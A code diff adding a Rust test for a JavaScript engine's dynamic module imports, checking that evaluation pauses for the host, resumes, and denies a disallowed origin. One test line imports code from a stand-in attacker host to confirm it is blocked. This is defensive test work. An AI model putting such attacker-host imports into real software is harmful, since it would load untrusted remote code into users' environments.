@@ -364,3 +364,49 @@ fn link_errors_name_the_module() {
         ("https://realm.example/alice/importer.js", 1, 10)
     );
 }
+
+#[wasm_bindgen_test(unsupported = test)]
+fn a_computed_dynamic_import_waits_for_the_host_and_resumes() {
+    let mut r = realm();
+    let files = HashMap::from([
+        (
+            "https://realm.example/alice/lazy.js",
+            "import { base } from './lazy-dep.js'; export const value = base + 1;",
+        ),
+        ("https://realm.example/alice/lazy-dep.js", "export const base = 41;"),
+    ]);
+    let src = "const name = ['la', 'zy'].join(''); Promise.all([import(`https://realm.example/alice/${name}.js`).then(m => m.value), import('https://attacker.example/' + name).catch(e => e.name), import(`https://realm.example/alice/${name}-missing.js`).catch(e => e.name)])";
+    let token = match r.eval_outcome(src, &EvalOptions::default()).unwrap() {
+        Outcome::Pending(t) => t,
+        Outcome::Done(g) => panic!("finished before the host answered: {g:?}"),
+    };
+    // The denied one requested nothing; the allowed ones are asked for, then their imports.
+    let mut log = Vec::new();
+    let mut finished = Vec::new();
+    for _ in 0..4 {
+        for f in r.take_fetches() {
+            log.push(f.url.clone());
+            let body = files
+                .get(f.url.as_str())
+                .map(|s| s.as_bytes().to_vec())
+                .ok_or_else(|| "404".to_owned());
+            finished.extend(r.provide(&f.url, body));
+        }
+    }
+    assert_eq!(
+        log,
+        [
+            "https://realm.example/alice/lazy.js",
+            "https://realm.example/alice/lazy-missing.js",
+            "https://realm.example/alice/lazy-dep.js"
+        ]
+    );
+    let (_, result) = finished
+        .into_iter()
+        .find(|(t, _)| *t == token)
+        .expect("the eval finished once the modules arrived");
+    let g = result.unwrap();
+    r.set("__r", &g).unwrap();
+    let s = r.eval("JSON.stringify(__r)", &EvalOptions::default()).unwrap();
+    assert_eq!(s.root, Value::str(r#"[42,"TypeError","TypeError"]"#));
+}
